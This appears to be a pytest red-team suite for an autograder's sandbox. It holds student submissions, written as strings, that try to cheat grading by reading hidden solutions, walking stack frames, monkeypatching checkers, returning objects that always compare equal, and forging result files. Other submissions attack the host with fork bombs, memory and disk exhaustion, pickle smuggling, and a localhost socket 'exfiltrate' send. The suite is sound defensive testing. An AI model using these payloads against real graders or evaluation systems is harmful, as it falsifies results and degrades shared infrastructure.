"""Red team: one submission per attack and per breakage, all graded in ONE batch with an honest one.

Each attack function would pass its check only if the attack worked, so the honest score of a
pure attack is 0 on the attacked function. Every case asserts the exact outcome, that no engine
traceback reaches the student, that no hidden input leaks into any result, that payloads created
nothing, and the honest submission in the same batch gets full marks.
"""

from __future__ import annotations

import json
import os
import socket
import threading
import time
from pathlib import Path

import numpy as np
import pytest

from autograder import assignment, batch, engine, isolation
from toycourse import toy_submission, write_json

ROOT_ONLY = pytest.mark.skipif(os.geteuid() != 0, reason="isolation by user and namespaces needs root (CI and graders run as root)")

# Each: name -> (double cell source, expected points of double.values + double.hidden (max 4), expected scale points (max 2), notes)
ATTACKS: dict[str, str] = {
    "read_solutions": (
        "def double(x):\n"
        "    try:\n"
        "        open(SECRET_DIR + '/solutions/toy/hidden_checks.py').read()\n"
        "        return 2 * x\n"
        "    except OSError:\n"
        "        return x\n"
    ),
    "read_grading_yml": (
        "def double(x):\n"
        "    try:\n"
        "        return 2 * x if 'double.hidden' in open(SECRET_DIR + '/grading.yml').read() else x\n"
        "    except OSError:\n"
        "        return x\n"
    ),
    "read_other_submission": (
        "def double(x):\n"
        "    try:\n"
        "        open(SUBS_DIR + '/honest.ipynb').read()\n"
        "        return 2 * x\n"
        "    except OSError:\n"
        "        return x\n"
    ),
    "frame_walk": (
        "import inspect, numpy as np\n"
        "def double(x):\n"
        "    f = inspect.currentframe()\n"
        "    while f is not None:\n"
        "        for k, v in f.f_locals.items():\n"
        "            if k in ('expected', 'reference') and v is not None:\n"
        "                return v\n"
        "        f = f.f_back\n"
        "    return x\n"
    ),
    "monkeypatch_checker": (
        "import numpy as np\n"
        "import autograder.compare as c, autograder.checks as k\n"
        "from autograder.compare import Outcome\n"
        "c.compare_values = lambda *a, **kw: Outcome(True)\n"
        "k.same_value = lambda *a, **kw: Outcome(True)\n"
        "np.testing.assert_allclose = lambda *a, **kw: None\n"
        "np.allclose = lambda *a, **kw: True\n"
        "def double(x):\n"
        "    return x\n"
    ),
    "lying_array": (
        "import numpy as np\n"
        "class Liar(np.ndarray):\n"
        "    def __eq__(self, other): return True\n"
        "    def __array_ufunc__(self, *a, **k): return True\n"
        "def double(x):\n"
        "    return np.zeros_like(x).view(Liar)\n"
    ),
    "lying_object": (
        "class Liar:\n"
        "    def __eq__(self, other): return True\n"
        "    def __array__(self, *a, **k):\n"
        "        import numpy as np; return np.zeros(1)\n"
        "def double(x):\n"
        "    return Liar()\n"
    ),
    "pickle_smuggling": (
        "import pickle\n"
        "class P:\n"
        "    def __reduce__(self):\n"
        "        return (open, (MARKER, 'w'))\n"
        "def double(x):\n"
        "    return {'payload': pickle.dumps(P())}\n"
    ),
    "exit_zero_top_level": "import os\nos._exit(0)\ndef double(x):\n    return x\n",
    "sys_exit_in_function": "def double(x):\n    import sys\n    sys.exit(0)\n",
    "forge_records": (
        "import os, sys, glob, numpy as np\n"
        "def double(x):\n"
        "    for d in glob.glob('/tmp/autograder-*/out') + [os.path.dirname(a) for a in sys.argv]:\n"
        "        try:\n"
        "            open(os.path.join(d, 'progress'), 'w').write('done')\n"
        "        except OSError:\n"
        "            pass\n"
        "    try:\n"
        "        os.makedirs(OUT_DIR + '/forged/toy', exist_ok=True)\n"
        "        open(OUT_DIR + '/forged/toy/result.json', 'w').write('{\"score\": 100}')\n"
        "    except OSError:\n"
        "        pass\n"
        "    return x\n"
    ),
    "background_rewriter": (
        "import os, time\n"
        "def double(x):\n"
        "    if os.fork() == 0:\n"
        "        os.setsid()\n"
        "        if os.fork() == 0:\n"
        "            while True:\n"
        "                try:\n"
        "                    open(OUT_DIR + '/background_rewriter/toy/result.json', 'w').write('{\"score\": 100}')\n"
        "                except OSError:\n"
        "                    pass\n"
        "                time.sleep(0.05)\n"
        "        os._exit(0)\n"
        "    return x\n"
    ),
    "print_passed": (
        "import sys, json\n"
        "def double(x):\n"
        "    print('PASSED double.values 1/1'); print(json.dumps({'score': 6, 'status': 'ok'}))\n"
        "    print('PASSED', file=sys.stderr)\n"
        "    return x\n"
    ),
    "network": (
        "import socket\n"
        "def double(x):\n"
        "    try:\n"
        "        socket.create_connection(('127.0.0.1', PORT), timeout=2).sendall(b'exfiltrate')\n"
        "        return 2 * x\n"
        "    except OSError:\n"
        "        return x\n"
    ),
    "fork_bomb": (
        "import os\n"
        "def double(x):\n"
        "    for _ in range(100000):\n"
        "        try:\n"
        "            os.fork()\n"
        "        except OSError:\n"
        "            break\n"
        "    return x\n"
    ),
    "memory_bomb": "def double(x):\n    b = [bytearray(50 * 2**20) for _ in range(200)]\n    return 2 * x\n",
    "output_flood": "import sys\ndef double(x):\n    for _ in range(200000):\n        sys.stdout.write('spam ' * 100 + '\\n')\n    return x\n",
    "disk_filler": (
        "def double(x):\n"
        "    try:\n"
        "        with open('big.bin', 'wb') as f:\n"
        "            for _ in range(400):\n"
        "                f.write(b'0' * 2**20)\n"
        "    except OSError:\n"
        "        pass\n"
        "    return x\n"
    ),
    "infinite_loop_ignoring_signals": (
        "import signal\n"
        "def double(x):\n"
        "    signal.signal(signal.SIGALRM, signal.SIG_IGN)\n"
        "    while True:\n"
        "        pass\n"
    ),
    "leak_hidden_input_in_error": "def double(x):\n    raise ValueError('INPUT=' + repr(x.tolist()))\n",
}

# Breakages of the notebook itself: name -> function(path) writing the broken file
def _json(nb):
    return json.dumps(nb)


BROKEN = {
    "empty": (lambda p: p.write_text(""), "invalid"),
    "not_json": (lambda p: p.write_text('{"cells": [ oops'), "invalid"),
    "not_utf8": (lambda p: p.write_bytes(b'{"cells": []}\xff\xfe'), "invalid"),
    "not_a_notebook": (lambda p: p.write_text("[1, 2, 3]"), "invalid"),
}


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    from toycourse import make_course

    base = tmp_path_factory.mktemp("redteam")
    course = make_course(base / "course")
    subs, out = base / "subs", base / "out"
    marker = base / "payload-ran"
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(5)
    listener.settimeout(0.2)
    received = []
    stop = threading.Event()

    def accept():
        end = time.time() + 600
        while time.time() < end and not stop.is_set():
            try:
                conn, _ = listener.accept()
                received.append(conn.recv(100))
            except OSError:
                continue

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    consts = (f"SECRET_DIR = {str(course)!r}\nSUBS_DIR = {str(subs)!r}\nOUT_DIR = {str(out)!r}\n"
              f"MARKER = {str(marker)!r}\nPORT = {listener.getsockname()[1]}\n")
    toy_submission(subs, "honest")
    for name, code in ATTACKS.items():
        toy_submission(subs, name, double=consts + code)
    for name, (make, _) in BROKEN.items():
        make(subs / f"{name}.ipynb")
    (subs / "conftest.py").write_text(f"open({str(marker)!r}, 'w').write('conftest ran')\n")
    (subs / "model.pkl").write_bytes(__import__("pickle").dumps(None))
    started = time.monotonic()
    results = {r.submission: r for r in batch.grade_many([subs], assignment="toy", root=course, out=out, jobs=2, isolate=os.environ.get("REDTEAM_NO_ISOLATION") is None)}
    elapsed = time.monotonic() - started
    time.sleep(1.0)  # give any surviving background writer the chance to show itself
    stop.set()
    thread.join(timeout=2)
    listener.close()
    loaded = assignment.load("toy", root=course)
    return {"results": results, "out": out, "marker": marker, "received": received, "course": course,
            "assignment": loaded, "subs": subs, "elapsed": elapsed}


def by_id(result):
    return {c.id: c for c in result.checks}


def test_honest_submission_in_the_same_batch_gets_full_marks(graded):
    honest = graded["results"]["honest"]
    assert (honest.score, honest.status) == (6, "ok")


@ROOT_ONLY
@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_each_pure_attack_scores_zero_on_the_attacked_function(graded, name):
    result = graded["results"][name]
    checks = by_id(result)
    assert checks["double.values"].points == 0, checks["double.values"]
    assert checks["double.hidden"].points == 0, checks["double.hidden"]
    if name not in ("exit_zero_top_level",):
        assert checks["scale.values"].status == "passed", (name, checks["scale.values"].message)


@ROOT_ONLY
def test_expected_statuses(graded):
    r = graded["results"]
    assert by_id(r["memory_bomb"])["double.values"].category == "memory"
    assert r["memory_bomb"].status == "memory"
    assert by_id(r["infinite_loop_ignoring_signals"])["double.values"].category == "timeout"
    assert r["infinite_loop_ignoring_signals"].status == "timeout"
    assert by_id(r["sys_exit_in_function"])["double.values"].category == "raised"
    assert by_id(r["lying_array"])["double.values"].category == "type"
    assert by_id(r["lying_object"])["double.values"].category == "type"
    assert by_id(r["pickle_smuggling"])["double.values"].category == "type"  # bytes are not plain data
    assert any("only its imports and definitions were kept" in p or "crash" in p for p in r["exit_zero_top_level"].problems)


@ROOT_ONLY
def test_payloads_created_nothing_and_reached_nobody(graded):
    assert not graded["marker"].exists(), "a smuggled payload or conftest.py ran"
    assert graded["received"] == [], "a worker reached the network"
    assert not (graded["out"] / "forged").exists()
    rewritten = graded["out"] / "background_rewriter" / "toy" / "result.json"
    assert json.loads(rewritten.read_text())["submission"] == "background_rewriter"
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                assert os.stat(f"/proc/{pid}").st_uid < isolation.FIRST_UID, "a worker process survived its grading"
            except FileNotFoundError:
                pass


def test_broken_notebooks_get_status_and_message(graded):
    for name, (_, status) in BROKEN.items():
        result = graded["results"][name]
        assert result.status == status and result.score == 0
        assert result.message and "Traceback" not in result.message


def test_no_traceback_and_no_hidden_input_in_any_output(graded):
    loaded = graded["assignment"]
    for name, result in graded["results"].items():
        text = json.dumps([c.message for c in result.checks] + result.problems + [result.message])
        assert "Traceback" not in text and 'File "' not in text, name
        if result.status == "invalid":
            continue
        from autograder import notebook

        picked = notebook.submission_cells(notebook.read(graded["subs"] / f"{name}.ipynb"), loaded.release)
        hidden = [c for c in loaded.checks if loaded.settings(c).hidden]
        for p in engine.prepare(loaded, hidden, digest=engine.code_digest(picked.cells), reference=engine.reference_namespace(loaded)):
            for value in np.ravel(p.inputs["x"])[:10]:
                assert f"{value:.4f}"[:7] not in text, f"{name} leaked a hidden input"


def test_results_are_complete_files(graded):
    for name in graded["results"]:
        path = graded["out"] / name / "toy" / "result.json"
        data = json.loads(path.read_text())
        assert data["submission"] == name
    leftovers = list(graded["out"].rglob(".*.tmp"))
    assert leftovers == []
